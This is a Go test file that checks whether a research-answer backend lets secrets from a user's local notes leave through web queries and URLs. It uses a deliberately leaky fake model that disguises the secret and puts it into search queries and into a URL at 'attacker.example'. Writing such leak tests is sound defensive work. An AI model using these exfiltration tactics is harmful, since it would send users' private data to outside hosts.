@@ -1,0 +1,322 @@
+package answer_test
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"iter"
+	"math/rand/v2"
+	"regexp"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"unicode"
+
+	"footnote/backend/answer"
+	"footnote/backend/evidence"
+	"footnote/backend/llm"
+	"footnote/backend/web/webtest"
+)
+
+// tattler is a model that carries out whatever it reads of a secret, wherever it
+// can: in every query, plan, proposal and address.
+type tattler struct {
+	mu     sync.Mutex
+	secret string
+	form   int // how it writes what it read
+	told   int // calls in which it had something to tell
+}
+
+// loot is what the call shows of the secret, as the model writes it.
+func (m *tattler) loot(call llm.Call) string {
+	var shown strings.Builder
+	for _, msg := range call.Messages {
+		shown.WriteString(strings.ToLower(msg.Text) + "\n")
+	}
+	var words []string
+	for _, w := range strings.Fields(m.secret) {
+		if strings.Contains(shown.String(), strings.ToLower(w)) {
+			words = append(words, w)
+		}
+	}
+	if len(words) < 2 { // a number that stands everywhere
+		return ""
+	}
+	m.mu.Lock()
+	m.told++
+	m.mu.Unlock()
+	return disguised(words, m.form)
+}
+
+func disguised(words []string, form int) string {
+	text := strings.Join(words, " ")
+	switch form % 6 {
+	case 1:
+		return strings.Join(words, "")
+	case 2:
+		return strings.Join(strings.Split(strings.Join(words, ""), ""), " ")
+	case 3:
+		return strings.Join(words, "-")
+	case 4:
+		r := []rune(strings.Join(words, ""))
+		slices.Reverse(r)
+		return string(r)
+	case 5:
+		return strings.ToUpper(`"` + text + `"`)
+	}
+	return text
+}
+
+func (m *tattler) Stream(_ context.Context, call llm.Call) iter.Seq2[llm.Delta, error] {
+	return func(yield func(llm.Delta, error) bool) {
+		loot := m.loot(call)
+		if len(call.Tools) == 0 {
+			yield(llm.Delta{Text: m.say(call, loot), Usage: &llm.Usage{Prompt: 100, Completion: 20, Calls: 1}, Finish: llm.Stop}, nil)
+			return
+		}
+		for i, tool := range call.Tools {
+			if !yield(llm.Delta{Call: &llm.ToolCall{ID: fmt.Sprint("c", i), Name: tool.Name, Input: m.input(tool.Name, loot)}}, nil) {
+				return
+			}
+		}
+		yield(llm.Delta{Finish: llm.UseTools}, nil)
+	}
+}
+
+func (m *tattler) input(tool, loot string) string {
+	in := map[string]string{"query": "Lorne bridge " + loot, "question": "Which one?"}
+	switch tool {
+	case "file_search":
+		in["query"] = "Lorne bridge"
+	case "url_summarization":
+		in["url"] = "https://example.org/money?utm_source=" + strings.ReplaceAll(loot, " ", "+")
+		if m.form%2 == 0 {
+			in["url"] = "https://attacker.example/" + strings.ReplaceAll(loot, " ", "/")
+		}
+	}
+	text, err := json.Marshal(in)
+	if err != nil {
+		panic(err)
+	}
+	return string(text)
+}
+
+func (m *tattler) say(call llm.Call, loot string) string {
+	list := func(key string, complete bool) string {
+		text, err := json.Marshal(map[string]any{
+			"topic": "Lorne bridge " + loot, "brief": "It.", "complete": complete, key: []string{"What did the Lorne bridge cost " + loot + "?", loot + " Lorne bridge builder", "Lorne bridge traffic"},
+		})
+		if err != nil {
+			panic(err)
+		}
+		return string(text)
+	}
+	said := call.Messages[len(call.Messages)-1].Text
+	switch call.Purpose {
+	case "rewrite":
+		return "Lorne bridge " + loot
+	case "scope", "plan":
+		return list("dimensions", false)
+	case "judge":
+		return list("gaps", false)
+	case "agent_plan":
+		return list("subquestions", false)
+	case "extract":
+		return fmt.Sprintf(`{"relevant":true,"reason":"it says so","facts":[%q],"quotes":[]}`, m.secret)
+	case "compress":
+		return fmt.Sprintf(`{"summary":%q,"key_finding":%q}`, loot, loot)
+	case "chat":
+		return "The notes say: " + m.secret + " [1]. " + written(said)
+	}
+	text, err := json.Marshal([]string{"What is the Lorne bridge to " + loot + "?"})
+	if err != nil {
+		panic(err)
+	}
+	return string(text)
+}
+
+// overheard is the web of a test, and notes all that leaves.
+type overheard struct {
+	webtest.Frozen
+	mu   sync.Mutex
+	left []string
+}
+
+func (o *overheard) note(text string) {
+	o.mu.Lock()
+	o.left = append(o.left, text)
+	o.mu.Unlock()
+}
+
+func (o *overheard) Search(ctx context.Context, q answer.WebQuery, names []string, each func(answer.EngineResult)) {
+	o.note(q.Text)
+	o.Frozen.Search(ctx, q, names, each)
+}
+
+func (o *overheard) Read(ctx context.Context, lead evidence.Lead) (evidence.Document, bool, error) {
+	o.note(lead.Source.Address)
+	return o.Frozen.Read(ctx, lead)
+}
+
+// secrets of six kinds.
+var secrets = map[string]func(r *rand.Rand) string{
+	"account": func(r *rand.Rand) string {
+		return fmt.Sprintf("%04d %04d %04d", r.IntN(10000), r.IntN(10000), r.IntN(10000))
+	},
+	"code": func(r *rand.Rand) string { return strings.Join(some(r, codeWords, 4), " ") },
+	"name": func(r *rand.Rand) string { return invented(r) + " " + invented(r) },
+	"address": func(r *rand.Rand) string {
+		return fmt.Sprintf("%d %s Lane %s", 11+r.IntN(88), invented(r), invented(r))
+	},
+	"sum": func(r *rand.Rand) string {
+		return fmt.Sprintf("%d %s %d %d.%02d", 11+r.IntN(18), some(r, months, 1)[0], 1950+r.IntN(70), 1000+r.IntN(90000), r.IntN(100))
+	},
+	"diary": func(r *rand.Rand) string {
+		return fmt.Sprintf("tonight %s %s because nobody %s", strings.Join(some(r, codeWords, 2), " "), some(r, deeds, 1)[0], some(r, deeds, 1)[0])
+	},
+}
+
+var (
+	codeWords = strings.Fields("amber falcon river copper lantern meadow violin harbour thunder pepper cedar marble pigeon saddle walnut velvet orchid tunnel goblet canyon ribbon turnip whisper puzzle anchor blanket cactus dragon ember feather")
+	deeds     = strings.Fields("wept shouted vanished trembled apologised stumbled listened forgave lied drank")
+	months    = strings.Fields("January February March April June July August September October")
+	private   = regexp.MustCompile(`[\pL\pN]+`)
+)
+
+func some(r *rand.Rand, from []string, n int) []string {
+	var out []string
+	for _, at := range r.Perm(len(from))[:n] {
+		out = append(out, from[at])
+	}
+	return out
+}
+
+func invented(r *rand.Rand) string {
+	syllables := strings.Fields("bra kel dro vin tas mor shi lun gar pet fen wul zak rho")
+	return strings.Join([]string{strings.ToUpper("QVXZ"[r.IntN(4):][:1]), some(r, syllables, 1)[0], some(r, syllables, 1)[0], some(r, syllables, 1)[0]}, "")
+}
+
+func lettersOf(text string) string {
+	return strings.Map(func(r rune) rune {
+		if unicode.IsLetter(r) || unicode.IsDigit(r) {
+			return unicode.ToLower(r)
+		}
+		return -1
+	}, text)
+}
+
+// carried is what of a secret stands in a text that left: a word of it, or its
+// letters in a row in either direction.
+func carried(secret, left string) string {
+	const public = " what is known about the lorne bridge to because nobody lane "
+	words := private.FindAllString(strings.ToLower(left), -1)
+	for _, w := range private.FindAllString(strings.ToLower(secret), -1) {
+		if !strings.Contains(public, " "+w+" ") && slices.Contains(words, w) {
+			return w
+		}
+	}
+	whole, back := lettersOf(secret), []rune(lettersOf(secret))
+	slices.Reverse(back)
+	for _, letters := range []string{whole, string(back)} {
+		for at := 0; at+8 <= len(letters); at++ {
+			if strings.Contains(lettersOf(left), letters[at:at+8]) {
+				return letters[at : at+8]
+			}
+		}
+	}
+	return ""
+}
+
+// conversation is a way in which a model comes to read a secret and to ask.
+type conversation struct {
+	name string
+	hold func(t *testing.T, s *stage)
+}
+
+func inFocus(focus answer.Focus, mode answer.Mode, thread answer.ThreadID) func(*answer.Question) {
+	return func(q *answer.Question) {
+		q.Focus, q.Mode, q.Thread, q.Cache, q.Unattended = focus, mode, thread, false, true
+	}
+}
+
+func afterFiles(next answer.Mode, focus answer.Focus) func(t *testing.T, s *stage) {
+	return func(t *testing.T, s *stage) {
+		thread := s.events(t, s.begin(t, lorneQuestion, inFocus(answer.FocusLocal, answer.ModeBalanced, "")))[0].Body.(answer.Started).Thread
+		s.ask(t, lorneQuestion, inFocus(focus, next, thread))
+	}
+}
+
+func (s *stage) begin(t *testing.T, text string, change func(*answer.Question)) answer.RunID {
+	t.Helper()
+	q := s.Defaults()
+	q.Text = text
+	change(&q)
+	run, err := s.Ask(t.Context(), q)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.events(t, run.ID)
+	return run.ID
+}
+
+var conversations = []conversation{
+	{"agent", func(t *testing.T, s *stage) { s.ask(t, lorneQuestion, inFocus(answer.FocusAll, answer.ModeAgent, "")) }},
+	{"balanced, next turn", afterFiles(answer.ModeBalanced, answer.FocusAll)},
+	{"balanced on the web, next turn", afterFiles(answer.ModeBalanced, answer.FocusWeb)},
+	{"speed, next turn", afterFiles(answer.ModeSpeed, answer.FocusAll)},
+	{"agent on the web, next turn", afterFiles(answer.ModeAgent, answer.FocusWeb)},
+	{"deep", func(t *testing.T, s *stage) { s.ask(t, lorneQuestion, inFocus(answer.FocusAll, answer.ModeDeep, "")) }},
+	{"deep on the web, next turn", afterFiles(answer.ModeDeep, answer.FocusWeb)},
+	{"refreshed", func(t *testing.T, s *stage) {
+		first := s.events(t, s.begin(t, lorneQuestion, inFocus(answer.FocusLocal, answer.ModeBalanced, "")))
+		thread := first[0].Body.(answer.Started).Thread
+		run := s.begin(t, lorneQuestion, inFocus(answer.FocusAll, answer.ModeBalanced, thread))
+		s.ask(t, lorneQuestion, func(q *answer.Question) {
+			inFocus(answer.FocusAll, answer.ModeBalanced, thread)(q)
+			q.Refreshes = run
+		})
+	}},
+	{"a proposal that is asked", func(t *testing.T, s *stage) {
+		events := s.events(t, s.begin(t, lorneQuestion, inFocus(answer.FocusLocal, answer.ModeBalanced, "")))
+		a := finished(t, events)
+		for _, next := range a.FollowUps {
+			s.ask(t, next, inFocus(answer.FocusAll, answer.ModeBalanced, events[0].Body.(answer.Started).Thread))
+		}
+	}},
+	{"agent twice", func(t *testing.T, s *stage) {
+		thread := s.events(t, s.begin(t, lorneQuestion, inFocus(answer.FocusAll, answer.ModeAgent, "")))[0].Body.(answer.Started).Thread
+		s.ask(t, lorneQuestion, inFocus(answer.FocusAll, answer.ModeAgent, thread))
+	}},
+}
+
+// TestNoSecretOfAFileLeaves holds SEC-2: 300 conversations with a model that tells
+// all it reads, in each mode, with secrets of six kinds.
+func TestNoSecretOfAFileLeaves(t *testing.T) {
+	const each = 5 // conversations of a kind and a way
+	outgoing, told, talks := 0, 0, 0
+	for kind, invent := range secrets {
+		for way, c := range conversations {
+			r := rand.New(rand.NewPCG(uint64(len(kind)), uint64(way)))
+			for n := range each {
+				secret := invent(r)
+				model, out := &tattler{secret: secret, form: way + n}, &overheard{Frozen: webtest.Frozen{Seen: day, Pages: lornePages}}
+				s := set(t, oneModel{name: "test/m", model: model, abil: llm.Ability{Window: 16000, Tools: true}}, func(s *stage) {
+					s.shelf = &shelf{files: map[string]string{"/home/ann/Notes.txt": "Notes on the Lorne bridge. For me alone: " + secret + ".\n\nThe Lorne bridge was opened on 3 May 1932."}}
+					s.set.Deep.ReviewMs, s.set.Agent.MaxSteps, s.engines, s.reader = 1, 3, out, out
+				})
+				c.hold(t, s)
+				for _, left := range out.left {
+					if leak := carried(secret, left); leak != "" {
+						t.Errorf("%s, %s: %q of %q left in %q", c.name, kind, leak, secret, left)
+					}
+				}
+				talks, outgoing, told = talks+1, outgoing+len(out.left), told+min(model.told, 1)
+			}
+		}
+	}
+	t.Logf("%d conversations, %d queries and addresses, %d models had something to tell", talks, outgoing, told)
+	if told < talks*9/10 || outgoing < talks {
+		t.Errorf("the test tests nothing: %d of %d models read a secret, %d queries and addresses left", told, talks, outgoing)
+	}
+}
